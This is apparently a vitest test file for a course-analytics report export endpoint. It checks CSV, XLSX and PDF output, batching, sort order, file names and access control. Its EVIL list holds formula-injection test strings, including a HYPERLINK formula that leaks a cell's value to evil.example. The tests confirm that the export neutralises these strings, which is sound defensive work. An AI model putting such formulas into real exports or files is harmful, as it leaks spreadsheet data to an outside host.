/**
 * Report exports (spec 4.9 `POST /api/analytics/reports/export`), each opened by a real reader:
 * csv-parse reads the CSV, exceljs the XLSX, pdf.js the PDF. More rows than one batch, so the
 * batching (keyset pages on PGlite, a cursor on PostgreSQL) is crossed; formula cells come back
 * neutralised; the file name is in Content-Disposition.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { createCourse } from '../helpers/factories.js';
import { expectError, failingFields } from '../helpers/expect.js';
import { newId } from '../../src/platform/ids.js';
import { enrollments } from '../../src/modules/enrollments/enrollments.tables.js';
import { EXPORT_BATCH_SIZE } from '../../src/modules/analytics/analytics.query.js';
import { DEMO_TEACHER_ID, NORTH_TEACHER_ID } from '../../src/dev/crm-sim/fixtures.js';

const ROWS = EXPORT_BATCH_SIZE + 500;
const EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTabbed', '\rReturn'];

let t: TestApp;
let teacher: string;
let courseId: string;

async function exportRaw(token: string, body: unknown) {
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/analytics/reports/export',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    payload: JSON.stringify(body),
  });
  return res;
}

const student = (i: number) => `c_export_${String(i).padStart(5, '0')}`;

beforeAll(async () => {
  t = await createTestApp();
  teacher = await t.token({ role: 'TEACHER', id: DEMO_TEACHER_ID });
  const course = await createCourse(t, { title: 'Export course' });
  courseId = course.id;
  const now = t.clock.now();
  // Every 7th enrollment completed (the rest have no completedAt: nulls in a sorted keyset).
  const rows = Array.from({ length: ROWS }, (_, i) => ({
    id: newId(),
    institutionId: 'inst_demo',
    courseId: course.id,
    studentId: student(i),
    status: i % 7 === 0 ? ('COMPLETED' as const) : ('ACTIVE' as const),
    progress: i % 101,
    finalScore: i % 7 === 0 ? 50 + (i % 50) : null,
    enrolledAt: new Date(now.getTime() - i * 60_000),
    completedAt: i % 7 === 0 ? new Date(now.getTime() - (i % 13) * 3_600_000) : null,
    updatedAt: now,
  }));
  for (let i = 0; i < rows.length; i += 1000) await t.db.insert(enrollments).values(rows.slice(i, i + 1000));
  // Courses whose titles a spreadsheet would run as formulas.
  for (const title of EVIL) await createCourse(t, { title });
}, 120_000);
afterAll(async () => t?.close());

const byCourse = (extra: Record<string, unknown> = {}) => ({
  entity: 'enrollments',
  columns: ['studentId', 'status', 'progress', 'finalScore', 'completedAt'],
  filters: [{ field: 'courseId', op: 'eq', value: courseId }],
  ...extra,
});

describe('CSV', () => {
  it('streams every row (across batches) in the sorted order, with a header and a file name', async () => {
    const res = await exportRaw(teacher, {
      definition: byCourse({ sort: [{ field: 'completedAt', direction: 'desc' }, { field: 'progress' }] }),
      format: 'CSV',
      title: 'Progress: March',
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="Progress-March-2026-03-02.csv"');
    const records = parse(res.rawPayload, { columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0]!)).toEqual(['Student id', 'Status', 'Progress (%)', 'Final score', 'Completed at']);
    expect(records).toHaveLength(ROWS);
    expect(new Set(records.map((r) => r['Student id'])).size).toBe(ROWS);
    // NULLS FIRST for a descending sort, then by completedAt descending, ties by progress ascending.
    const key = (r: Record<string, string>) => [r['Completed at'] === '' ? '~' : r['Completed at']!, r['Progress (%)']!.padStart(3, '0')];
    for (let i = 1; i < records.length; i++) {
      const [pa, pb] = [key(records[i - 1]!), key(records[i]!)];
      const ordered = pa[0] !== pb[0] ? pa[0]! > pb[0]! : pa[1]! <= pb[1]!;
      expect(ordered, `rows ${i - 1} and ${i}: ${JSON.stringify([records[i - 1], records[i]])}`).toBe(true);
    }
    const completed = records.find((r) => r.Status === 'COMPLETED')!;
    expect(completed['Completed at']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });

  it('neutralises cells that would run as formulas', async () => {
    const res = await exportRaw(teacher, { definition: { entity: 'courses', columns: ['title', 'status'], filters: [{ field: 'title', op: 'in', value: EVIL }] }, format: 'CSV' });
    expect(res.statusCode).toBe(200);
    const records = parse(res.rawPayload, { columns: true, relax_quotes: true }) as Record<string, string>[];
    expect(records.map((r) => r['Course title']).sort()).toEqual(EVIL.map((v) => `'${v}`).sort());
    expect(records.every((r) => r['Course status'] === 'PUBLISHED')).toBe(true);
  });

  it('exports grouped reports in full, and stops at the definition limit', async () => {
    const grouped = await exportRaw(teacher, {
      definition: { entity: 'enrollments', groupBy: ['studentId'], aggregates: [{ fn: 'count', as: 'n' }], filters: [{ field: 'courseId', op: 'eq', value: courseId }] },
      format: 'CSV',
    });
    const records = parse(grouped.rawPayload, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(ROWS);
    expect(new Set(records.map((r) => r['Student id'])).size).toBe(ROWS);
    expect(records.every((r) => r.Count === '1')).toBe(true);

    const limited = await exportRaw(teacher, { definition: byCourse({ limit: 10, sort: [{ field: 'studentId' }] }), format: 'CSV' });
    const top = parse(limited.rawPayload, { columns: true }) as Record<string, string>[];
    expect(top.map((r) => r['Student id'])).toEqual(Array.from({ length: 10 }, (_, i) => student(i)));
  });

  it('answers an invalid definition, a stranger and another institution with an error envelope, not a file', async () => {
    const bad = await t.request('POST', '/api/analytics/reports/export', { token: teacher, body: { definition: { entity: 'enrollments', columns: ['nope'] }, format: 'CSV' } });
    expectError(bad, 400, 'VALIDATION_ERROR');
    expect(failingFields(bad)).toEqual(['body.definition.columns.0']);
    expectError(await t.request('POST', '/api/analytics/reports/export', { token: teacher, body: { definition: byCourse(), format: 'DOCX' } }), 400, 'VALIDATION_ERROR');
    const learner = await t.token({ role: 'STUDENT', id: student(1) });
    expectError(await t.request('POST', '/api/analytics/reports/export', { token: learner, body: { definition: byCourse(), format: 'CSV' } }), 403, 'FORBIDDEN');
    const north = await t.token({ role: 'TEACHER', id: NORTH_TEACHER_ID, institutionId: 'inst_north' });
    const other = await exportRaw(north, { definition: byCourse(), format: 'CSV' });
    expect(parse(other.rawPayload, { columns: true })).toEqual([]);
  });
});

describe('XLSX', () => {
  it('is a workbook exceljs reads back: header, typed cells, neutralised text', async () => {
    const res = await exportRaw(teacher, { definition: byCourse({ sort: [{ field: 'studentId' }] }), format: 'XLSX' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe('attachment; filename="Enrollments-report-2026-03-02.xlsx"');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Student id', 'Status', 'Progress (%)', 'Final score', 'Completed at']);
    expect(sheet.rowCount).toBe(ROWS + 1);
    // Timestamps are date cells (UTC), not text.
    expect(sheet.getRow(2).values).toEqual([undefined, student(0), 'COMPLETED', 0, 50, new Date('2026-03-02T09:00:00.000Z')]);
    expect(sheet.getRow(2).getCell(5).type).toBe(ExcelJS.ValueType.Date);
    expect(sheet.getRow(2).getCell(5).numFmt).toBe('yyyy-mm-dd hh:mm:ss.000');
    expect(sheet.getRow(3).getCell(4).value).toBeNull();
    expect(sheet.getRow(3).getCell(5).value).toBeNull();
    // Student 7 (row 9) completed 7 hours before now.
    expect(sheet.getRow(9).getCell(5).value).toEqual(new Date('2026-03-02T02:00:00.000Z'));

    // The day buckets of a grouped report are date cells too.
    const byDay = await exportRaw(teacher, {
      definition: {
        entity: 'enrollments',
        groupBy: [{ field: 'completedAt', granularity: 'day' }],
        aggregates: [{ fn: 'count', as: 'n' }],
        filters: [
          { field: 'courseId', op: 'eq', value: courseId },
          { field: 'completedAt', op: 'isNotNull' },
        ],
        sort: [{ field: 'completedAt:day' }],
      },
      format: 'XLSX',
    });
    expect(byDay.statusCode, byDay.body).toBe(200);
    const days = new ExcelJS.Workbook();
    await days.xlsx.load(byDay.rawPayload as unknown as ArrayBuffer);
    const daySheet = days.worksheets[0]!;
    expect(daySheet.getRow(2).getCell(1).value).toBeInstanceOf(Date);
    expect((daySheet.getRow(2).getCell(1).value as Date).toISOString()).toMatch(/^2026-03-0[12]T00:00:00\.000Z$/);
    expect(daySheet.getRow(2).getCell(1).numFmt).toBe('yyyy-mm-dd');

    const evil = await exportRaw(teacher, { definition: { entity: 'courses', columns: ['title'], filters: [{ field: 'title', op: 'in', value: EVIL }] }, format: 'XLSX' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(evil.rawPayload as unknown as ArrayBuffer);
    const titles: unknown[] = [];
    book.worksheets[0]!.eachRow((row, n) => n > 1 && titles.push(row.getCell(1).value));
    // (An XML reader turns the carriage return into a line feed; the leading ' is what matters.)
    expect(titles.sort()).toEqual(EVIL.map((v) => `'${v.replace('\r', '\n')}`).sort());
    // Text cells, never formulas.
    book.worksheets[0]!.eachRow((row) => expect(row.getCell(1).formula).toBeUndefined());
  });
});

describe('PDF', () => {
  it('is a document pdf.js reads: the title, the header and the rows', async () => {
    const res = await exportRaw(teacher, { definition: byCourse({ limit: 200, sort: [{ field: 'studentId' }] }), format: 'PDF', title: 'Course progress' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe('attachment; filename="Course-progress-2026-03-02.pdf"');
    const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
    const doc = await pdfjs.getDocument({ data: new Uint8Array(res.rawPayload), useSystemFonts: true, isEvalSupported: false }).promise;
    expect(doc.numPages).toBeGreaterThan(1);
    const text = async (n: number) => ((await (await doc.getPage(n)).getTextContent()).items as { str: string }[]).map((i) => i.str).join(' ');
    const first = await text(1);
    expect(first).toContain('Course progress');
    expect(first).toContain('Student id');
    expect(first).toContain('Completed at');
    expect(first).toContain(student(0));
    // Every page repeats the header; the last rows are on the last page.
    const last = await text(doc.numPages);
    expect(last).toContain('Student id');
    expect(last).toContain(student(199));
    await doc.destroy();
  });
});
